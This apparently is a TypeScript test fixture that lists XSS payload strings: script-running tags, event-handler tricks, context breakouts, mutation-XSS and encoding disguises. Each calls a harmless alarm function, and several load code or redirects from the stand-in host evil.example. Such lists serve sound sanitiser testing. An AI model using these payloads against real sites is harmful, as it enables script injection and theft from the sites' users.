// Texts that run, load, link or break out of their place where a page takes them as they are. Each calls the alarm that a
// visit listens to.

const RUN = 'nps_ran(1)';
const ELSEWHERE = 'https://evil.example';

/** Scripts, and elements whose handlers run by themselves. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/x.js"></script>`,
  `<SCRIPT/SRC=//evil.example/x.js></SCRIPT>`,
  `<script >${RUN}</script\t\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onloadstart=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">x</b>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<a href="java&#x09;script:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<x-y tabindex=1 onfocus=${RUN} autofocus>`,
];

/** What leaves the page, changes what its addresses mean, or loads. */
const REQUESTS = [
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
  `<link rel=prefetch href=${ELSEWHERE}>`,
  `<style>@import "${ELSEWHERE}/x.css";</style>`,
  `<b style="background:url(${ELSEWHERE}/x.png)">x</b>`,
  `}body{background:url(${ELSEWHERE}/x.png)}`,
  `;background:url(//evil.example/x.png);`,
  `<img src="${ELSEWHERE}/x.png" srcset="${ELSEWHERE}/y.png 2x">`,
  `<table background="${ELSEWHERE}/x.png"><td>x`,
  `![x](${ELSEWHERE}/x.png)`,
  `[x](javascript:${RUN})`,
];

/** Ends of the places where text may be. */
const BREAKS = [
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `\` onmouseover=${RUN} x=\``,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `"/><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</text></svg><img src=x onerror=${RUN}>`,
  `</desc></svg><svg onload=${RUN}>`,
  `</td></tr></table></details></figure></main></body><script>${RUN}</script>`,
  `</textarea></noscript></select></xmp></plaintext><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?x ><img src=x onerror=${RUN}>`,
  `<plaintext>`,
  `<!doctype html><frameset onload=${RUN}>`,
  `\${${RUN}}{{${RUN}}}<%= ${RUN} %>`,
];

/** What cleaners and parsers see differently (mutation XSS), and what was one encoded thing or another. */
const DISGUISES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><style><img title="</style><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a title="</style><img src onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<select><template><style></select></template><img src=x onerror=${RUN}>`,
  `<img\u0000src=x\u0000onerror=${RUN}>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `\u202e>tpircs/<)1(nar_spn>tpircs<\u202c`,
  `\u2066<b>\u2069\u200f\u061c`,
  `\ufeff<script>${RUN}</script>`,
  `\u2028<script>${RUN}</script>\u2029`,
  `\ud800<script>${RUN}</script>`,
  `=HYPERLINK("${ELSEWHERE}","x")`,
];

/** All of them, each once. */
export const XSS: readonly string[] = [...ELEMENTS, ...REQUESTS, ...BREAKS, ...DISGUISES];
